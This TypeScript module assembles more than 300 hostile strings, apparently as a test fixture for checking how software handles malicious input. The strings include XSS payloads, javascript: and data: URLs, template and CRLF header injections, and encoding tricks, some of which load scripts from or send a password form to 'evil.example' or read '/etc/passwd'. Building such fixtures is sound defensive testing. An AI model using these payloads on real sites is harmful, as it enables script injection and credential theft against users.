import { nastyMarkup } from './nastyMarkup';

/** Texts that run, load or restyle something where a page takes them for markup, by what they attack. */
const attacks: readonly string[] = [
  ...nastyMarkup,
  // Out of an attribute.
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus tabindex='1",
  '"autofocus onfocus=alert(1) x="',
  '" style="position:fixed;inset:0;background:red',
  '` onerror=alert(1) `',
  '"/><svg/onload=alert(1)>',
  '" src="https://evil.example/x.png" "',
  '" srcset="https://evil.example/x.png 2x',
  '" href="javascript:alert(1)" x="',
  // Out of raw text and comments.
  '</title><script>alert(1)</script>',
  '</style><img src=x onerror=alert(1)>',
  '</textarea></script><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  '--!><svg onload=alert(1)>',
  ']]><script>alert(1)</script>',
  '<!DOCTYPE html><body onload=alert(1)>',
  '</body></html><script>alert(1)</script>',
  '</main><form action=//evil.example><input type=password name=p>',
  '<plaintext>',
  '<xmp><script>alert(1)</script>',
  // Addresses.
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  ' javascript:alert(1)',
  'javascript://%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'vbscript:msgbox(1)',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  '//evil.example/x',
  '\\\\evil.example\\x',
  'https://user:pass@evil.example/',
  'feed:javascript:alert(1)',
  // Entities.
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3c;img src=x onerror=alert(1)&#x3e;',
  '&amp;lt;script&amp;gt;',
  '&quot; onload=&quot;alert(1)',
  '&NewLine;javascript&colon;alert(1)',
  '&#0000060script&#0000062',
  // Elements with behaviour.
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<audio src=x onerror=alert(1)>',
  '<isindex action=javascript:alert(1) type=image>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<a href=# ping=https://evil.example>x</a>',
  '<x onclick=alert(1)>x</x>',
  '<custom-element onpointerenter=alert(1)>x</custom-element>',
  '<dialog open><h1>Sign in</h1></dialog>',
  '<portal src=https://evil.example>',
  '<frameset onload=alert(1)><frame src=x>',
  '<bgsound src=javascript:alert(1)>',
  '<link rel=import href=https://evil.example>',
  '<script type=importmap>{"imports":{"x":"data:text/javascript,alert(1)"}}</script>',
  '<script src=//evil.example/x.js async>',
  // SVG and MathML.
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:alert(1)><a>x</a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x">',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)>',
  // Styles.
  '<p style=animation-name:x onanimationstart=alert(1)>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background-image:url(https://evil.example/x)">',
  'expression(alert(1))',
  '};*{display:none}/*',
  '@charset "UTF-7"; body{behavior:url(#x)}',
  // Templates.
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '{{7*7}}<%= 7*7 %>#{7*7}',
  '<%- include("/etc/passwd") %>',
  '${{<img src=x onerror=alert(1)>}}',
  // Other encodings and character sets.
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\u00bcscript\u00bealert(1)\u00bc/script\u00be',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\\x3cimg src=x onerror=alert(1)\\x3e',
  '\u001b(J<script>\u005calert(1)</script>',
  // Letters that others turn into markup.
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '\u2039script\u203aalert(1)\u2039/script\u203a',
  '\ufe64img src=x onerror=alert(1)\ufe65',
  '\u02ba onmouseover=\u02baalert(1)',
  '\ud800<script>alert(1)</script>',
  '<\u017fcript>alert(1)</\u017fcript>',
  '<\u212amg src=x>',
  // Headers and lines.
  'x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>',
  'x\u2028<script>alert(1)</script>\u2029',
];

/** Ways to write an attack so that another part of a program might read it differently. */
const disguises: readonly ((text: string) => string)[] = [
  text => text,
  text => text.toUpperCase().replaceAll('=', '\u0000='),
  text => text.replaceAll('<', '<\u0000'),
  text => `plain text, then \u202e${text}\u202c and \u2066more`,
];

/** More than 300 different hostile texts. */
export const hostileTexts: readonly string[] = [
  ...new Set(attacks.flatMap(attack => disguises.map(disguise => disguise(attack)))),
];
